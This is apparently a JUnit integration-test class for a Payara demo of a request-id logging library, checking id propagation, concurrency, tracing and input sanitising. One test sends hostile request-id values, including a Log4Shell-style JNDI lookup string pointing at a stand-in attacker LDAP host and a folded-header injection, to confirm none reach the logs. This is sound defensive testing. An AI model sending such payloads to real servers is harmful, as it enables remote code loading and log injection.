package dev.logctx.demo.jakartaee;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.logctx.testsupport.DemoContract;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.jspecify.annotations.Nullable;

/**
 * What the demo must show on a real server, for each Payara release: every path keeps the request
 * id, the negative controls lose it, concurrent requests keep their own ids, hostile ids never
 * reach a log line, and the loss rate of the server's own context propagation under load; and the
 * interface all three demos share ({@link DemoContract}).
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
abstract class OrderServiceContract extends RunningServer implements DemoContract {
  /** How long the lines of a request may take to appear. */
  static final Duration LINES_TIMEOUT = Duration.ofSeconds(120);

  /** The paths whose MDC comes from the server's context service through logctx's provider. */
  static final Set<FollowUp> PROVIDER_PATHS =
      EnumSet.of(
          FollowUp.MANAGED_EXECUTOR,
          FollowUp.MANAGED_STAGE,
          FollowUp.SCHEDULED,
          FollowUp.CONTEXT_PROXY,
          FollowUp.DEFINED_EXECUTOR,
          FollowUp.VIRTUAL_EXECUTOR);

  private static final Pattern VALID_ID = Pattern.compile("[A-Za-z0-9._:-]{1,64}");
  private static final Pattern ECHOED_ID =
      Pattern.compile("(?im)^X-Request-ID:[ \\t]*([^\\r\\n]*)$");

  /** The negative controls the WAR on this server runs. */
  abstract Set<Control> controls();

  /** Whether the WAR on this server has logctx-opentelemetry: every WAR of the demo does. */
  boolean carriesLogctxOpentelemetry() {
    return true;
  }

  @Override
  public URI demoUri(String path) {
    return server.uri(path);
  }

  @Override
  public List<DemoContract.Line> awaitDemoLines(
      Predicate<DemoContract.Line> which, int count, Duration timeout) throws Exception {
    return server.log().await(new ServerLog.Mark(0, 0), line -> which.test(asContractLine(line)), count, timeout).stream()
        .map(OrderServiceContract::asContractLine)
        .toList();
  }

  /**
   * The shared contract's messages: every path but those through the server's own context service,
   * which Payara runs without any MDC now and then (its race, docs/jakartaee.md). Those paths are
   * checked by this class's own tests, which allow for that race and never for a wrong id.
   */
  @Override
  public Set<String> demoOrderMessages() {
    Set<String> messages = orderMessages();
    PROVIDER_PATHS.forEach(followUp -> messages.remove(followUp.logLine()));
    return messages;
  }

  private static DemoContract.Line asContractLine(LogLine line) {
    return new DemoContract.Line(line.requestId(), line.userId(), line.threadName(), line.message());
  }

  @Test
  void each_order_logs_every_path_with_its_request_id_and_user() throws Exception {
    // One order at a time, so every line of one of its messages after the mark is this order's.
    // A line through the server's own context service may come without any MDC (Payara's race,
    // docs/jakartaee.md, measured by the_servers_context_loss_under_load_is_measured): at most one
    // such line is tolerated over the three orders, never a line with another id or user, never a
    // loss on a path where logctx captures the context itself.
    Set<String> messages = orderMessages();
    int raceLosses = 0;
    for (int i = 1; i <= 3; i++) {
      String id = name() + "-seq-" + i;
      String user = "seq-user-" + i;
      ServerLog.Mark mark = server.log().mark();
      HttpResponse<String> response = order(id, user).get(60, TimeUnit.SECONDS);
      assertThat(response.statusCode()).isEqualTo(201);
      assertThat(response.headers().firstValue("X-Request-ID")).contains(id);
      List<LogLine> lines =
          server
              .log()
              .await(
                  mark,
                  line -> messages.contains(line.message())
                      && (id.equals(line.requestId()) || line.requestId() == null),
                  messages.size(),
                  LINES_TIMEOUT);
      for (LogLine line : lines) {
        if (line.requestId() == null) {
          @Nullable FollowUp followUp = line.followUp();
          assertThat(followUp != null && PROVIDER_PATHS.contains(followUp))
              .as("only a path through the server's context service may lose the id: " + line)
              .isTrue();
          assertThat(line.userId()).as(line.toString()).isNull();
          raceLosses++;
        } else {
          assertThat(line.userId()).as(line.toString()).isEqualTo(user);
        }
      }
      assertThat(lines).extracting(LogLine::message).containsExactlyInAnyOrderElementsOf(messages);
    }
    if (raceLosses > 0) {
      System.out.printf("[%s] sequential orders: %d line(s) lost to the server's race%n", name(), raceLosses);
    }
    assertThat(raceLosses).as("lines lost to the server's context race over 3 orders").isLessThanOrEqualTo(1);
  }

  @Test
  void negative_controls_lose_the_request_id() throws Exception {
    int lost = 0;
    int total = 0;
    for (int i = 1; i <= 3; i++) {
      String id = name() + "-ctl-" + i;
      String user = "ctl-user-" + i;
      ServerLog.Mark mark = server.log().mark();
      HttpResponse<String> response = runControls(id, user);
      for (Control control : controls()) {
        assertThat(response.body()).contains("\"" + control.jsonName() + "\"");
      }
      Set<String> messages = controls().stream().map(Control::logLine).collect(Collectors.toSet());
      List<LogLine> lines =
          server.log().await(mark, line -> messages.contains(line.message()), controls().size(), LINES_TIMEOUT);
      for (LogLine line : lines) {
        total++;
        if (!id.equals(line.requestId())) {
          lost++;
        }
        if (line.message().equals(Control.CLIENT_WITHOUT_FILTER.logLine())) {
          // the callee made up an id of its own; the user came in a header of its own
          assertThat(line.requestId()).isNotNull().isNotEqualTo(id);
          assertThat(line.userId()).isEqualTo(user);
        } else {
          // an empty MDC: neither this request's entries nor a leftover of earlier work
          assertThat(line.requestId()).as(line.message()).isNull();
          assertThat(line.userId()).as(line.message()).isNull();
        }
      }
    }
    System.out.printf("[%s] negative controls: %d of %d lines lost the id%n", name(), lost, total);
    assertThat(lost).isEqualTo(total);
  }

  @Test
  void concurrent_orders_keep_their_own_ids() throws Exception {
    // measure() fails on any line with another request's id or user, and on any line without an
    // id on a path where logctx captures the context itself. Lines through the server's own
    // context service may come without any MDC on both Payara releases (their race, see
    // docs/jakartaee.md): counted and printed, never a wrong id.
    Measurement result = measure("conc", 100, 100);
    result.print(name() + " 100 concurrent");
    assertThat(result.lines()).isEqualTo(100 * (1 + followUps().size()));
  }

  @Test
  void the_servers_context_loss_under_load_is_measured() throws Exception {
    int orders = Integer.getInteger("logctx.it.race.orders", 300);
    Measurement result = measure("race", orders, 50);
    result.print(name() + " race measurement");
    // The measurement ran: every line came, every one with an id had its own request's. The rate
    // itself is the server's and is reported, not asserted.
    assertThat(result.lines()).isEqualTo(orders * (1 + followUps().size()));
  }

  /**
   * A filter of the application that runs before logctx's (pre-matching, priority 100) sees no
   * request id on any of several hundred interleaved asynchronous and synchronous requests: the
   * request thread of an asynchronous request is cleaned when the server takes it back. Its
   * negative controls are {@code Payara6WithoutRequestThreadCleanupIT} and {@code
   * WildFlyWithoutRequestThreadCleanupIT}. First of the class: the load tests grow the server's
   * thread pool (to 186 threads on Payara 6), after which a thread would serve few requests.
   */
  @Test
  @Order(1)
  void a_filter_before_ours_never_sees_another_requests_id() throws Exception {
    RequestThreadLeftovers.Result result = RequestThreadLeftovers.measure(this, "early", 400, 4);
    result.print(name());
    assertThat(result.lines()).isEqualTo(400);
    assertThat(result.threads())
        .as("server threads that served the 400 requests: each must serve many")
        .isLessThanOrEqualTo(400 / 20);
    assertThat(result.foreign()).as("early lines with another request's id; e.g. %s", result.example()).isZero();
  }

  @Test
  void a_hostile_request_id_never_reaches_a_log_line() throws Exception {
    String tooLong = "a".repeat(300);
    String jndi = "${jndi:ldap://attacker.invalid/a}";
    List<String> headerLines =
        List.of(
            "X-Request-ID: " + tooLong + "\r\n",
            "X-Request-ID: " + jndi + "\r\n",
            "X-Request-ID: folded-start\r\n folded-evil\r\n");
    // As in each_order_logs_every_path_with_its_request_id_and_user: a line through the server's
    // own context service may come without any MDC (Payara's race); at most one such line over
    // the requests, never on a path where logctx captures, never a line with another id.
    Set<String> messages = orderMessages();
    int raceLosses = 0;
    for (int i = 0; i < headerLines.size(); i++) {
      String user = "hostile-user-" + i;
      ServerLog.Mark mark = server.log().mark();
      String answer =
          RawHttp.post(
              server.uri("/"),
              "/orders",
              headerLines.get(i),
              "{\"userId\":\"" + user + "\",\"item\":\"book\",\"quantity\":1}");
      if (answer.startsWith("HTTP/1.1 400")) {
        continue; // refused by the server's HTTP parser: nothing of it reaches the application
      }
      assertThat(answer).startsWith("HTTP/1.1 201");
      Matcher echoed = ECHOED_ID.matcher(answer);
      assertThat(echoed.find()).as(answer).isTrue();
      String id = echoed.group(1).trim();
      assertThat(id).matches(VALID_ID).doesNotContain("jndi").doesNotContain("evil").isNotEqualTo(tooLong);
      List<LogLine> lines =
          server
              .log()
              .await(
                  mark,
                  line -> messages.contains(line.message())
                      && (user.equals(line.userId()) || line.requestId() == null),
                  messages.size(),
                  LINES_TIMEOUT);
      for (LogLine line : lines) {
        if (line.requestId() == null) {
          @Nullable FollowUp followUp = line.followUp();
          assertThat(followUp != null && PROVIDER_PATHS.contains(followUp))
              .as("only a path through the server's context service may lose the id: " + line)
              .isTrue();
          assertThat(line.userId()).as(line.toString()).isNull();
          raceLosses++;
        } else {
          assertThat(line.requestId()).as(line.toString()).isEqualTo(id);
        }
      }
      assertThat(lines).extracting(LogLine::message).containsExactlyInAnyOrderElementsOf(messages);
    }
    if (raceLosses > 0) {
      System.out.printf("[%s] hostile ids: %d line(s) lost to the server's race%n", name(), raceLosses);
    }
    assertThat(raceLosses).as("lines lost to the server's context race over the requests").isLessThanOrEqualTo(1);
    assertThat(server.log().raw())
        .noneMatch(line -> line.contains(tooLong))
        .noneMatch(line -> line.contains("${jndi"))
        .noneMatch(line -> line.contains("folded-evil"));
  }

  /**
   * 100 orders at once, each with a {@code traceparent} of its own: every line of every order that
   * carries its request id carries its trace id under {@code trace_id} and, under {@code span_id},
   * a span of that trace that the WAR's tracer finished; every order's trace reaches the inventory
   * endpoint (the call runs on a managed executor's thread). A line without any MDC may come only
   * through the server's own context service (Payara's race, which loses the whole snapshot:
   * counted and printed). The early filter's lines, logged before logctx's request filter, all
   * carry a trace of the round, every order's trace among them: only logctx's storage wrapper,
   * when the WAR's filter makes the request's span current, writes it there, so the wrapper is on
   * the WAR's OpenTelemetry. Then one order without {@code traceparent}: one fresh trace on all its
   * lines, none of the round's. Negative control: {@code Payara6WithoutLogctxOpentelemetryIT}.
   */
  @Test
  void traced_concurrent_orders_keep_their_trace() throws Exception {
    assumeTrue(carriesLogctxOpentelemetry(), "the WAR on this server has no logctx-opentelemetry");
    int orders = 100;
    TracedOrders round = TracedOrders.place(this, "trace", orders);
    assertThat(round.figures().problems()).as("lines without their own trace and span").isEmpty();
    assertThat(round.tracesReachingTheInventory()).as("traces that reached the inventory").isEqualTo(orders);
    assertThat(round.earlyTraceIds())
        .as("trace_id of the early filter's lines, set only by the span TracingFilter made current")
        .hasSizeGreaterThanOrEqualTo(orders)
        .allSatisfy(trace -> assertThat(round.traceOfId().values()).contains(trace));
    assertThat(Set.copyOf(round.earlyTraceIds())).containsExactlyInAnyOrderElementsOf(round.traceOfId().values());

    ServerLog.Mark probeMark = server.log().mark();
    String probeId = name() + "-trace-probe";
    assertThat(order(probeId, "trace-probe-user").get(120, TimeUnit.SECONDS).statusCode()).isEqualTo(201);
    Set<String> messages = orderMessages();
    List<LogLine> probeLines =
        server.log().await(
            probeMark,
            line -> messages.contains(line.message()) && probeId.equals(line.requestId()),
            demoOrderMessages().size(),
            LINES_TIMEOUT);
    Set<@Nullable String> probeTraces = new HashSet<>();
    probeLines.forEach(line -> probeTraces.add(line.mdc().get("trace_id")));
    assertThat(probeTraces)
        .as("the probe's trace ids, line by line: %s", probeLines)
        .hasSize(1)
        .doesNotContainNull()
        .doesNotContainAnyElementsOf(round.traceOfId().values());
  }

  /** Sends {@code orders} orders, {@code concurrency} at a time, and reads their lines. */
  private Measurement measure(String tag, int orders, int concurrency) throws Exception {
    ServerLog.Mark mark = server.log().mark();
    Map<String, String> userOfId = new HashMap<>();
    for (int sent = 0; sent < orders; sent += concurrency) {
      List<CompletableFuture<HttpResponse<String>>> batch = new ArrayList<>();
      for (int i = sent; i < Math.min(orders, sent + concurrency); i++) {
        String id = name() + "-" + tag + "-" + i;
        String user = tag + "-user-" + i;
        userOfId.put(id, user);
        batch.add(order(id, user));
      }
      for (CompletableFuture<HttpResponse<String>> response : batch) {
        assertThat(response.get(120, TimeUnit.SECONDS).statusCode()).isEqualTo(201);
      }
    }
    Set<String> messages = orderMessages();
    // Lines of this measurement: its ids, or no id at all (a loss), from one of its messages.
    List<LogLine> lines =
        server
            .log()
            .await(
                mark,
                line ->
                    messages.contains(line.message())
                        && (line.requestId() == null || userOfId.containsKey(line.requestId())),
                orders * messages.size(),
                LINES_TIMEOUT);
    int providerLines = 0;
    int providerLost = 0;
    for (LogLine line : lines) {
      @Nullable FollowUp followUp = line.followUp();
      boolean providerPath = followUp != null && PROVIDER_PATHS.contains(followUp);
      if (providerPath) {
        providerLines++;
      }
      if (line.requestId() == null) {
        assertThat(providerPath)
            .as("only a path through the server's context service may lose the id: " + line)
            .isTrue();
        assertThat(line.userId()).as("a line without the id has no user either: " + line).isNull();
        providerLost++;
      } else {
        assertThat(line.userId()).as(line.toString()).isEqualTo(userOfId.get(line.requestId()));
      }
    }
    Set<String> idsSeen = lines.stream().map(LogLine::requestId).collect(Collectors.toSet());
    assertThat(idsSeen).containsAll(userOfId.keySet());
    int severe = (int)
        server.log().rawSince(mark).stream()
            .filter(line -> line.contains("LogContext") && line.contains("not registered"))
            .count();
    return new Measurement(orders, lines.size(), providerLines, providerLost, severe);
  }


  /**
   * The lines of a run of orders.
   *
   * @param orders orders sent
   * @param lines their lines (all came)
   * @param providerLines lines of paths through the server's context service
   * @param providerLost of these, lines without an id
   * @param severeNotRegistered the server's SEVERE "'LogContext' is not registered" lines
   */
  record Measurement(
      int orders, int lines, int providerLines, int providerLost, int severeNotRegistered) {
    void print(String what) {
      System.out.printf(
          "[%s] orders %d, lines %d, through the server's context service %d, lost %d (%.2f%%),"
              + " SEVERE 'not registered' %d%n",
          what,
          orders,
          lines,
          providerLines,
          providerLost,
          providerLines == 0 ? 0.0 : 100.0 * providerLost / providerLines,
          severeNotRegistered);
    }
  }
}
